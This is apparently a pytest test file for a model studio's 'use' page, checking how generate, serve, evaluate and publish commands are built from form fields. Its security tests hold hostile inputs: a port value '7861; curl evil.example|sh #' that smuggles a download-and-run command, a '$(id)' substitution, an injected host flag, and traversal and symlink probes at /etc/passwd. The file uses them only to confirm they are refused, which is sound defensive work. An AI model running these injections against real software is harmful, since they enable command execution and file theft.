"""The page of a model starts generate and serve with exactly the words that it shows."""

from __future__ import annotations

import json
import os
import shlex
import socket
from pathlib import Path

import pytest

from overtone.finetune.errors import UserError
from overtone.studio.jobs import job_queue, job_records
from overtone.studio.jobs.job_commands import check_command
from overtone.studio.page_interface import Studio
from overtone.studio.pages import job_page, use_page
from overtone.studio.pages.use_page import (
    EvaluateForm,
    GenerateForm,
    ServeForm,
    list_evaluation_words,
    list_files,
    list_generate_words,
    list_newest,
    list_server_words,
)
from tests.asgi import App
from tests.finetune import fake_hub
from tests.studio.form_values import read_form
from tests.studio.jobs.test_job_records import make_folder
from tests.studio.test_folder_content import write_dataset
from tests.studio.waiting import wait_for_end

MODEL = {"model": "exports/a b"}


def write_export(folder: Path, recipe: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "overtone.json").write_text(json.dumps({"recipe": recipe, "format": "x", "checkpoint": "runs/a/checkpoints/step-3"}))
    return folder


@pytest.fixture
def place(tmp_path: Path) -> Path:
    write_export(tmp_path / "exports" / "a b", "llm_sft")
    write_export(tmp_path / "exports" / "voice", "voice_clone")
    (tmp_path / "lines.txt").write_text("One.\nTwo.\n")
    (tmp_path / "speech").mkdir()
    (tmp_path / "speech" / "one.wav").write_bytes(b"RIFF")
    return tmp_path


def test_a_chat_model_answers_and_a_voice_speaks(app: App) -> None:
    chat = app.ask("GET", "/use", query=b"model=exports%2Fa+b").body.decode()
    voice = app.ask("GET", "/use", query=b"model=exports%2Fvoice").body.decode()
    assert 'action="/use/answer"' in chat and 'chat.completions.create(model="a b"' in chat and "Text to speak" not in chat
    assert 'action="/use/speak"' in voice and "/v1/audio/speech" in voice and "Blind" not in chat and "blind comparison" in voice
    assert "<option>lines.txt</option>" in voice and "file=one.wav" in voice and "belongs to a person" in voice
    assert "/use?model=exports%2Fa+b" in app.ask("GET", "/").body.decode()


def test_the_words_of_speech(place: Path) -> None:
    form = GenerateForm.model_validate({**MODEL, "text": "-- Hello; $(id)\nhttps://a/../b", "name": "one", "speaker": "me"})
    words = list_generate_words(place, form, speaks=True)
    assert words == ["--model", "exports/a b", f"--text={form.text}", "--speaker", "me", "--out", "speech/one.wav"]
    check_command(place, "generate", words)
    many = GenerateForm.model_validate({**MODEL, "text_file": "lines.txt", "name": "lines"})
    assert list_generate_words(place, many, speaks=True)[-4:] == ["--text-file", "lines.txt", "--out", "speech/lines"]


def test_the_words_of_an_answer(place: Path) -> None:
    form = GenerateForm.model_validate({**MODEL, "text": "Who?", "system": "Be kind.", "max_new_tokens": "9"})
    assert list_generate_words(place, form, speaks=False) == [
        "--model",
        "exports/a b",
        "--prompt=Who?",
        "--system",
        "Be kind.",
        "--max-new-tokens",
        "9",
    ]


def test_the_words_of_an_evaluation(place: Path) -> None:
    (place / "val.jsonl").write_text("{}\n")
    form = EvaluateForm(model="exports/voice", data="val.jsonl", asr="small", name="first")
    words = list_evaluation_words(place, form)
    assert words == ["--model", "exports/voice", "--data", "val.jsonl", "--asr", "small", "--out", "evaluations/first"]
    with pytest.raises(UserError, match="is no file of rows"):
        list_evaluation_words(place, form.model_copy(update={"data": "none.jsonl"}))
    studio = Studio(place, "127.0.0.1")
    job = job_page.find_job(studio, make_folder(place, command={"verb": "eval-voice", "words": words}).name)
    assert use_page.make_page(studio).job_links(job) == [("/report?folder=evaluations%2Ffirst&page=evaluation.html", "Show the evaluation")]


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"text": " "}, "enter a text"),
        ({"text": "a", "text_file": "lines.txt"}, "enter a text"),
        ({"text": "a", "name": "a/b"}, "is no name"),
        ({"text": "a", "model": "../a"}, "is no folder"),
    ],
)
def test_wrong_fields_are_refused(changes: dict[str, str], reason: str, place: Path) -> None:
    with pytest.raises(UserError, match=reason):
        list_generate_words(place, GenerateForm.model_validate({**MODEL, "name": "a", **changes}), speaks=True)


def test_a_server_gets_a_free_port(place: Path) -> None:
    port = use_page.find_free_port()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", port))
        taken.listen()
        assert use_page.find_free_port() > port
    form = ServeForm.model_validate({**MODEL, "port": "7900", "base": "models/a", "blind": "lines.txt"})
    assert list_server_words(place, form)[2:] == ["--port", "7900", "--base", "models/a", "--blind", "lines.txt"]
    for wrong in ("80", "x", "7900 --host 0.0.0.0", "٧٩٠٠", "9" * 5000):
        with pytest.raises(UserError, match="give a port"):
            list_server_words(place, ServeForm.model_validate({**MODEL, "port": wrong}))


def test_the_shown_command(app: App) -> None:
    body = json.dumps({**MODEL, "text": "It's"}).encode()
    shown = json.loads(app.ask("POST", "/use/answer/command", body).body)["command"]
    assert shlex.split(shown) == ["overtone", "generate", "--model", "exports/a b", "--prompt=It's"]
    empty = json.loads(app.ask("POST", "/use/answer/command", json.dumps(MODEL).encode()).body)
    assert empty == {"command": "", "detail": "enter a text or choose a file, and not both"}


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("/use/speak", ["generate", "--model", "exports/voice", "--text=It's <b>\n-- me", "--speaker", "me", "--out", "speech/two.wav"]),
        ("/use/speak", ["generate", "--model", "exports/voice", "--text-file", "lines.txt", "--out", "speech/lines"]),
        ("/use/answer", ["generate", "--model", "exports/a b", "--prompt=Who?", "--system", "Be kind.", "--max-new-tokens", "9"]),
        (
            "/use/evaluate",
            [*("eval-voice", "--model", "exports/voice", "--data", "data/me/val.jsonl", "--asr", "tiny"), "--out", "evaluations/v.2"],
        ),
        ("/use/serve", ["serve", "--model", "exports/voice", "--port", "7911", "--base", "models/a", "--blind", "lines.txt"]),
        ("/use/push", ["export", "exports/a b", "--push-to-hub", "me/mine"]),
        ("/use/push", ["export", "exports/a b", "--push-to-hub", "me/mine", "--private"]),
    ],
    ids=["speak", "speak a file", "answer", "evaluate", "serve", "publish", "publish privately"],
)
def test_changed_settings_begin_with_those_of_the_job(path: str, words: list[str], app: App, place: Path) -> None:
    (write_dataset(place / "data" / "you") / "val.jsonl").write_text("{}\n")
    (write_dataset(place / "data" / "me") / "val.jsonl").write_text("{}\n")
    id = make_folder(place, command={"verb": words[0], "words": words[1:], "page": path}).name
    page = app.ask("GET", path, query=f"from={id}".encode()).body
    fields = json.dumps(read_form(page, path)).encode()
    assert shlex.split(json.loads(app.ask("POST", f"{path}/command", fields).body)["command"]) == ["overtone", *words]


def test_words_of_a_foreign_job_are_not_shown_as_code(app: App, place: Path) -> None:
    words = ["--model", "exports/voice", "--port", "7861; curl evil.example|sh #"]
    command = {"verb": "serve", "words": words, "page": "/use/serve"}
    foreign = make_folder(place, command=command, is_own=False).name
    answer = app.ask("GET", "/use/serve", query=f"from={foreign}".encode())
    assert answer.status == 400 and b"was not started by you" in answer.body and b"evil.example" not in answer.body
    own = make_folder(place, command=command).name
    page = app.ask("GET", "/use/serve", query=f"from={own}".encode())
    assert page.status == 200 and b"evil.example" not in page.body and b"curl http://127.0.0.1:78" in page.body


def test_a_model_is_published_by_the_shown_command(app: App, place: Path) -> None:
    page = app.ask("GET", "/use", query=b"model=exports%2Fa+b").body
    assert read_form(page, "/use/push") == {"model": "exports/a b", "private": True}, "nothing is public by mistake"
    answer = json.loads(app.ask("POST", "/use/push/command", json.dumps(MODEL).encode()).body)
    assert answer == {"command": "", "detail": "enter the name of the repository on the hub, as OWNER/MODEL"}
    for name in ("https://me:hf_secret@example.org/a", "../a"):
        refused = app.ask("POST", "/use/push", json.dumps({**MODEL, "repository": name}).encode())
        assert refused.status == 400 and not (place / ".studio").exists()
    job = make_folder(place, command={"verb": "export", "words": ["exports/a b", "--push-to-hub", "me/mine"]})
    studio = Studio(place, "127.0.0.1")
    links = use_page.make_page(studio).job_links(job_page.find_job(studio, job.name))
    assert links == [("/use?model=exports%2Fa+b", "Back to the model")]


def test_an_upload_is_a_job_whose_folder_has_no_token(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_hub.opened() as hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.address)
        monkeypatch.setenv("HF_HOME", str(place.parent / "hf"))
        for token, state in (("hf_wrong_secret", "failed"), (fake_hub.TOKEN, "done")):
            monkeypatch.setenv("HF_TOKEN", token)
            id = job_queue.start_job(place, "export", ["exports/voice", "--push-to-hub", "me/voice", "--private"], "/use/push")
            job = wait_for_end(place, id)
            log = (job.folder / job_records.LOG).read_text()
            assert job.state == state, log
            written = b"".join(path.read_bytes() for path in (place / ".studio").rglob("*") if path.is_file())
            assert token.encode() not in written
        assert set(hub.repositories["me/voice"]) == {"overtone.json"} and hub.private["me/voice"]
        assert f"uploaded to {hub.address}/me/voice" in log


def test_only_sounds_of_the_folder_are_played(app: App, place: Path) -> None:
    (place / "speech" / "link.wav").symlink_to("/etc/hostname")
    (place / "secret.wav").write_bytes(b"RIFF")
    (place / "speech" / "note.txt").write_text("x")
    assert app.ask("GET", "/use/sound", query=b"file=one.wav").status == 200
    for file in ("link.wav", "../secret.wav", "note.txt", "", "/etc/passwd", "none.wav"):
        assert app.ask("GET", "/use/sound", query=f"file={file}".encode()).status == 404
    assert list_files(place, (".wav",)) == ["secret.wav", "speech/one.wav"]
    (place / "other").symlink_to(place / "speech")
    assert list_files(place / "other", (".wav",)) == []


def test_sounds_are_listed_newest_first_with_a_free_name(app: App, place: Path) -> None:
    for index, name in enumerate(("speech.wav", "a.wav", "speech-2.wav")):
        (place / "speech" / name).write_bytes(b"RIFF")
        os.utime(place / "speech" / name, (index, index))
    assert list_newest(place / "speech") == ["one.wav", "speech-2.wav", "a.wav", "speech.wav"]
    assert 'value="speech-3"' in app.ask("GET", "/use", query=b"model=exports%2Fvoice").body.decode()


def test_an_export_leads_to_its_use(tmp_path: Path) -> None:
    studio = Studio(tmp_path, "127.0.0.1")
    page = use_page.make_page(studio)
    for words, link in ((["runs/a", "--to", "exports/a"], "/use?model=exports%2Fa"), (["runs/a"], None)):
        job = job_page.find_job(studio, make_folder(tmp_path, command={"verb": "export", "words": words}).name)
        assert page.job_links(job) == ([] if link is None else [(link, "Use the model")])
